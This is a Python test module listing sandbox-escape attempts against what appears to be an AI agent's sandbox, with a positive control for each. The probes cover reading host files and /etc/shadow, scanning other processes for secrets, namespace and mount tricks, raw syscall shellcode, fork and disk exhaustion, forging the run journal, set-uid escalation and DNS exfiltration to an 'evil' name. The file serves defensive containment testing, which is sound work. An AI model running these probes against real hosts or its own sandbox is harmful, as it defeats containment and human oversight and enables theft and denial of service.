"""What a hostile box tries. Each attempt is a Python program that runs inside a real box and prints `GOT ...` where it gets through.

The positive control is the same program with one guard off (`without`), or outside any box as the same user (`OUTSIDE`): there it must
get through, else the attempt proves nothing. `root_only`: what an ordinary user could not do outside either.
"""

from __future__ import annotations

from dataclasses import dataclass

OUTSIDE = "outside any box"


@dataclass(frozen=True)
class Attempt:
    """Number and name as in the threat model's list."""

    number: int
    name: str
    program: str
    without: tuple[str, ...] = ()  # empty: the control runs outside
    root_only: bool = False
    seconds: float = 20.0

    @property
    def control(self) -> str:
        return f"without {', '.join(self.without)}" if self.without else OUTSIDE


_SYSCALL = """
import ctypes, errno, os, platform
libc = ctypes.CDLL(None, use_errno=True)
def call(*arguments):
    ctypes.set_errno(0)
    result = libc.syscall(*arguments)
    return result, ctypes.get_errno()
"""

ATTEMPTS = (
    Attempt(
        1,
        "write core_pattern (the same value)",
        """
path = "/proc/sys/kernel/core_pattern"
value = open(path).read()
open(path, "w").write(value)
print("GOT core_pattern")
""",
        root_only=True,
    ),
    Attempt(
        2,
        "read a host file by path, /proc/1/root, /proc/self/root, cwd",
        """
import os
for start in ("", "/proc/1/root", "/proc/self/root/..", "/proc/self/cwd/../../../.."):
    try:
        print("GOT", open(start + os.environ["CANARY_FILE"]).read())
    except OSError as error:
        print(error)
""",
    ),
    Attempt(2, "read /etc/shadow", "print('GOT', open('/etc/shadow').read()[:40])", root_only=True),
    Attempt(
        3,
        "find a host secret in any environment, command line or file",
        """
import os
secret = bytes.fromhex(os.environ["CANARY_HEX"])
def look(path):
    try:
        with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
            return secret in (file.read(1 << 16) or b"")
    except OSError:
        return False
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        if int(pid) != os.getpid() and look(f"/proc/{pid}/{name}"):
            print("GOT secret in", pid, name)
for top in ("/etc", "/box", "/run", "/home/agent", "/dev/shm", "/var/tmp"):
    for base, folders, files in os.walk(top):
        for name in files:
            if look(os.path.join(base, name)):
                print("GOT secret in", base, name)
""",
    ),
    Attempt(
        8,
        "hard link to and rename of a file of the host",
        """
import os
source = os.environ.get("CANARY_FILE")
for what in (source, "/usr/bin/env"):
    for act in (os.link, os.rename):
        if act is os.rename and what != source:
            continue
        try:
            act(what, what + ".moved" if act is os.rename else os.path.join(os.environ["SCRATCH"], "linked"))
            print("GOT", act.__name__, what)
            if act is os.rename:
                os.rename(what + ".moved", what)
        except OSError as error:
            print(error)
""",
    ),
    Attempt(
        9,
        "new namespaces: unshare, clone3",
        _SYSCALL
        + """
flags = 0x10000000 | 0x20000
result, error = call(272 if platform.machine() == "x86_64" else 97, flags)
print("GOT a user namespace" if result == 0 else os.strerror(error))
""",
    ),
    Attempt(
        10,
        "mount, in a namespace of one's own",
        _SYSCALL
        + """
libc.unshare(0x10000000 | 0x20000)
result = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
print("GOT a mount" if result == 0 else os.strerror(ctypes.get_errno()))
""",
    ),
    Attempt(
        11,
        "a socket out of the virtual machine: AF_VSOCK",
        """
import socket
socket.socket(40, socket.SOCK_STREAM)
print("GOT AF_VSOCK")
""",
        without=("seccomp",),
    ),
    Attempt(
        11,
        "netfilter's netlink",
        """
import socket
socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
print("GOT NETLINK_NETFILTER")
""",
        without=("seccomp",),
    ),
    Attempt(
        12,
        "the 32-bit door of the kernel: int 0x80",
        """
import ctypes, mmap
code = mmap.mmap(-1, 4096, prot=7)
code.write(b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3")  # mov eax, 20 (getpid); int 0x80; ret
address = ctypes.addressof(ctypes.c_char.from_buffer(code))
print("GOT", ctypes.CFUNCTYPE(ctypes.c_int)(address)())
""",
        without=("seccomp",),
    ),
    Attempt(
        13,
        "io_uring, bpf, userfaultfd, keyctl, perf",
        _SYSCALL
        + """
buffer = ctypes.create_string_buffer(256)
for name, arguments in {
    "io_uring_setup": (425, 1, buffer),
    "keyctl": (250, 0, -3, 1),
    "userfaultfd": (323, 1),
}.items():
    result, error = call(*arguments)
    if result >= 0 or error in (errno.EFAULT, errno.EINVAL):
        print("GOT", name, result)
""",
        without=("seccomp",),
    ),
    Attempt(
        14,
        "make and open a block device",
        """
import os
path = os.path.join(os.environ["SCRATCH"], "disk")
os.mknod(path, 0o60600, os.makedev(7, 0))
print("GOT a device", os.stat(path).st_rdev)
""",
        root_only=True,
    ),
    Attempt(
        17,
        "see, signal and trace a process of the host",
        """
import os
pid = int(os.environ["CANARY_PID"])
os.kill(pid, 0)
print("GOT", open(f"/proc/{pid}/cmdline").read())
""",
    ),
    Attempt(
        19,
        "fork without end",
        """
import os, signal, time
children = []
try:
    while len(children) < 300:
        pid = os.fork()
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children.append(pid)
except OSError as error:
    print(error)
print("GOT" if len(children) > 120 else "held at", len(children))
for pid in children:
    os.kill(pid, signal.SIGKILL)
""",
    ),
    Attempt(
        21,
        "take twice the memory in one process",
        """
blocks = [bytearray(8 << 20) for _ in range(40)]
print("GOT", sum(map(len, blocks)))
""",
        without=("memory",),
    ),
    Attempt(
        22,
        "write more than the disk",
        """
import os
path = os.path.join(os.environ["SCRATCH"], "large")
written = 0
try:
    with open(path, "wb") as file:
        for _ in range(80):
            written += file.write(b"x" * (1 << 20))
            file.flush()
except OSError as error:
    print(error)
os.path.exists(path) and os.unlink(path)
print("GOT" if written > 70 << 20 else "held at", written)
""",
    ),
    Attempt(
        22,
        "make files without end",
        """
import os
made = 0
folder = os.path.join(os.environ["SCRATCH"], "many")
os.mkdir(folder)
try:
    for made in range(40000):
        os.close(os.open(f"{folder}/{made}", os.O_CREAT | os.O_WRONLY))
except OSError as error:
    print(error)
print("GOT" if made >= 39999 else "held at", made)
""",
        seconds=60,
    ),
    Attempt(
        24,
        "open descriptors without end",
        """
import os, resource
wanted = 2000
try:
    resource.setrlimit(resource.RLIMIT_NOFILE, (wanted + 100, wanted + 100))
except (OSError, ValueError) as error:
    print(error)
held = []
try:
    while len(held) < wanted:
        held.append(os.open("/dev/null", os.O_RDONLY))
except OSError as error:
    print(error)
print("GOT" if len(held) >= wanted else "held at", len(held))
""",
    ),
    Attempt(
        28,
        "connect to a port, an abstract and a path socket of the host",
        """
import os, socket
for family, address in (
    (socket.AF_INET, ("127.0.0.1", int(os.environ["CANARY_PORT"]))),
    (socket.AF_UNIX, "\\0" + os.environ["CANARY_SOCKET"]),
    (socket.AF_UNIX, os.environ["CANARY_SOCKET"]),
):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(2)
            sock.connect(address)
            print("GOT", address)
    except OSError as error:
        print(error)
""",
    ),
    Attempt(
        29,
        "reach a port of the host's network without the box's own",
        """
import os, socket
with socket.create_connection(("127.0.0.1", int(os.environ["CANARY_PORT"])), 2):
    print("GOT it")
""",
        without=("netns",),
    ),
    Attempt(
        38,
        "write to the run's folder, its journal and its limits",
        """
import os
folder = os.environ["CANARY_FOLDER"]
with open(os.path.join(folder, "journal.jsonl"), "a") as file:
    file.write("forged")
print("GOT the journal")
""",
    ),
    Attempt(
        42,
        "be the host's interpreter through #!/proc/self/exe",
        """
import os, subprocess
path = os.path.join(os.environ["SCRATCH"], "tool")
with open(path, "w") as file:
    file.write(f"#!/proc/self/exe\\nprint('GOT', open({os.environ['CANARY_FILE']!r}).read())\\n")
os.chmod(path, 0o755)
print(subprocess.run([path], capture_output=True, text=True).stdout)
""",
    ),
    Attempt(
        15,
        "be somebody else through the host's set-uid programs",
        """
import os, re, subprocess, time
found = [f"/usr/bin/{name}" for name in ("su", "passwd", "mount", "newgrp", "chsh") if os.path.exists(f"/usr/bin/{name}")]
for path in found:
    process = subprocess.Popen([path], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    until, effective, state = time.monotonic() + 1, "", ""
    try:
        while effective != "0" and state != "Z" and time.monotonic() < until:  # its identity changes after its program does
            with open(f"/proc/{process.pid}/status") as file:
                status = file.read()
            effective, state = re.search(r"Uid:\\s+\\d+\\s+(\\d+)", status)[1], re.search(r"State:\\s+(.)", status)[1]
        if effective == "0":
            print("GOT uid 0 in", path)
    except OSError as error:
        print(error)
    process.kill()
    process.wait()
    process.communicate()
print("looked at", found)
""",
    ),
    Attempt(
        30,
        "carry data out in a question to a name server of the host's network",
        """
import os, socket
question = b"\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"\\x3f" + b"s" * 63 + b"\\x04evil\\x00\\x00\\x10\\x00\\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    sock.settimeout(2)
    sock.sendto(question, ("127.0.0.1", int(os.environ["CANARY_DNS"])))
    print("GOT an answer", sock.recv(512))
""",
        without=("netns",),
    ),
    Attempt(
        48,
        "use up the host's asynchronous I/O contexts",
        _SYSCALL
        + """
context = ctypes.c_ulong(0)
result, error = call(206 if platform.machine() == "x86_64" else 0, 64, ctypes.byref(context))
print("GOT a context" if result == 0 else os.strerror(error))
""",
        without=("seccomp",),
    ),
)
